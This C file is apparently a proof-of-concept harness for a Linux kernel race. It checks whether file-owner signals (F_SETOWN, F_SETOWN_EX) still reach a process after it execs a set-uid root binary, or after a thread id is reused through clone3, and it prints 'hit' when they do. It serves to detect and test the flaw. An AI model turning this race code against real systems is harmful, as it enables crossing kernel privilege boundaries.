/* race uid DEVICE COUNT VICTIM: the owner is a group of COUNT members; some of them exec VICTIM, the set-uid copy of
 * this program, over and over (and it them). VICTIM becomes root altogether, and from then on no signal of the group is its own: it
 * prints "hit" if one comes.
 *
 * race tid DEVICE COUNT (as root, who may choose ids): the owner is a thread, the first of a process that
 * ends, and its id is given to a process that was never an owner; that prints "hit" if it is signalled. */
#include "attack.h"
#include <linux/sched.h>
#include <stdint.h>
#include <sys/syscall.h>

enum { RACERS = 24, BEFORE_MS = 120, LIVES_MS = 150, FILES = 8 };

static void expect_silence(const sigset_t *set, long ms)
{
	struct timespec none = { 0, 0 }, time = { .tv_nsec = ms * 1000000 };

	while (sigtimedwait(set, NULL, &none) > 0)
		;
	if (sigtimedwait(set, NULL, &time) > 0) {
		printf("hit: signalled as uid %d\n", getuid());
		fflush(stdout);
	}
}

static void watched_signals(sigset_t *set)
{
	sigemptyset(set);
	sigaddset(set, SIGNAL);
	sigaddset(set, SIGIO);
}

/* An ordinary member of the group for a while, then the victim. The id stays, so that it is looked at early. */
static void be_racer(const char *victim, uid_t uid)
{
	sigset_t set;

	if (setresuid(uid, uid, uid))
		fail("setresuid");
	signal(SIGNAL, nothing);
	signal(SIGIO, nothing);
	watched_signals(&set);
	sigprocmask(SIG_UNBLOCK, &set, NULL);
	srandom(getpid() + time(NULL));
	for (long left = 1 + random() % BEFORE_MS; left > 0; left -= 10)
		rest(10);
	execl(victim, victim, "victim", NULL);
	fail("exec");
}

static void be_victim(const char *self)
{
	uid_t before = getuid();
	sigset_t set;

	watched_signals(&set);
	sigprocmask(SIG_BLOCK, &set, NULL);
	if (setuid(0))
		fail("setuid");
	expect_silence(&set, LIVES_MS);
	be_racer(self, before);
}

static void race_for_uid(const char *device, int count, const char *victim)
{
	setpgid(0, 0);
	signal(SIGNAL, nothing);
	for (int i = 0; i < RACERS; i++)
		if (fork() == 0)
			be_racer(victim, getuid());
	for (int i = RACERS; i < count; i++)
		if (fork() == 0)
			wait_for_ever();
	for (int i = 0; i < FILES; i++)
		set_owner(open_device(device), -getpgrp());
	ready();
	wait_for_ever();
}

static pid_t fork_as(pid_t id)
{
	struct clone_args arguments = { .exit_signal = SIGCHLD, .set_tid = (uintptr_t)&id, .set_tid_size = 1 };

	return syscall(SYS_clone3, &arguments, sizeof arguments);
}

static void race_for_tid(const char *device, int count)
{
	int fds[FILES], group;
	sigset_t set;

	watched_signals(&set);
	sigprocmask(SIG_BLOCK, &set, NULL);
	for (int i = 0; i < FILES; i++)
		set_owner(fds[i] = open_device(device), getpid());
	/* Beside them a group, to have a notification take its time. */
	if ((group = fork()) == 0) {
		setpgid(0, 0);
		for (int i = 1; i < count; i++)
			if (fork() == 0)
				wait_for_ever();
		for (int i = 0; i < FILES; i++)
			set_owner(open_device(device), -getpgrp());
		ready();
		wait_for_ever();
	}
	for (;;) {
		pid_t pid = fork();
		if (pid == 0)
			wait_for_ever();
		/* Its first thread, by number; all keep the file. */
		struct f_owner_ex who = { F_OWNER_TID, pid };
		for (int i = 0; i < FILES; i++)
			fcntl(fds[i], F_SETOWN_EX, &who);
		rest(1 + random() % BEFORE_MS);
		kill(pid, SIGKILL);
		waitpid(pid, NULL, 0);
		pid = fork_as(pid);
		if (pid == 0) {
			expect_silence(&set, LIVES_MS);
			_exit(0);
		}
		if (pid < 0 && errno != EEXIST)
			fail("clone3");
		waitpid(pid, NULL, 0);
	}
}

int main(int argc, char **argv)
{
	if (argc == 2)
		be_victim(argv[0]);
	if (!strcmp(argv[1], "uid"))
		race_for_uid(argv[2], atoi(argv[3]), argv[4]);
	race_for_tid(argv[2], atoi(argv[3]));
}
